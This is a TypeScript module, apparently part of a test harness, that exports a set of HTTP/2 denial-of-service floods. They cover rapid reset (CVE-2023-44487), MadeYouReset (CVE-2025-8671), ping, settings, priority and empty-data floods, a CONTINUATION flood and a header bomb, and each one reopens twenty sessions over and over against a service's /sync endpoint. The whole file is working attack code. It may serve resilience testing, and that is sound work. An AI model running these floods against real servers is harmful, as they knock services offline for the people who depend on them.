import { type Attack, openSession, pourStreams, repeat } from './caller.ts'
import {
  endHeaders,
  endStream,
  fields,
  frame,
  open,
  request,
  reset,
  settings,
  windowUpdate,
} from './frames.ts'

const sessions = 20
const batch = 100
const json = { 'content-type': 'application/json' }

/**
 * A flood of the same frames over many sessions, each opened again when it ends. `piece` makes the
 * frames of a stream; `first` is sent once, on stream 1.
 */
function flood(what: string, piece: (stream: number) => Buffer, first?: Buffer): Attack {
  return (caller) =>
    repeat(caller, sessions, 250, async () => {
      const socket = await openSession(caller)
      if (!socket) return
      if (first) socket.write(first)
      await pourStreams(caller, socket, what, batch, piece)
    })
}

const bare = request('POST', '/sync', json)
const whole = request('POST', '/sync', { ...json, 'content-length': '2' })
const unknown = request('GET', '/nothing')
const bytes = (size: number) => Buffer.alloc(size)

/** CVE-2023-44487, rapid reset: resets each request at once. */
export const rapidReset = flood('requests', (id) => Buffer.concat([open(id, bare), reset(id)]))

/** Resets each request after its whole body, when the service works on it. */
export const resetAfterEnd = flood('requests', (id) => {
  const body = frame('data', endStream, id, Buffer.from('{}'))
  return Buffer.concat([open(id, whole, false), body, reset(id)])
})

/** CVE-2025-8671, MadeYouReset: a window too large for a stream makes the service reset it. */
export const madeYouReset = flood('requests', (id) =>
  Buffer.concat([open(id, unknown), windowUpdate(id)]),
)

/** nghttp2 treats these as an error of the session. */
export const emptyWindowUpdates = flood('requests', (id) =>
  Buffer.concat([open(id, unknown), windowUpdate(id, 0)]),
)

/** CVE-2019-9512. */
export const pings = flood('frames', () => frame('ping', 0, 0, bytes(8)))
/** CVE-2019-9515. */
export const settingsFlood = flood('frames', () => settings())
/** CVE-2019-9513. */
export const priorities = flood('frames', (id) => frame('priority', 0, id, bytes(5)))
/** CVE-2019-9518. */
export const emptyData = flood('frames', () => frame('data', 0, 1), open(1, bare, false))
/** CVE-2024-27316 and CVE-2024-27983. */
export const continuation = flood(
  'frames',
  () => frame('continuation', 0, 1, fields({ a: 'b' })),
  frame('headers', 0, 1, unknown),
)
/** Many header fields of one byte each, from the static table, which take much more memory. */
export const headerBomb = flood('requests', (id) =>
  frame('headers', endHeaders + endStream, id, Buffer.concat([unknown, bytes(4_000).fill(0x90)])),
)
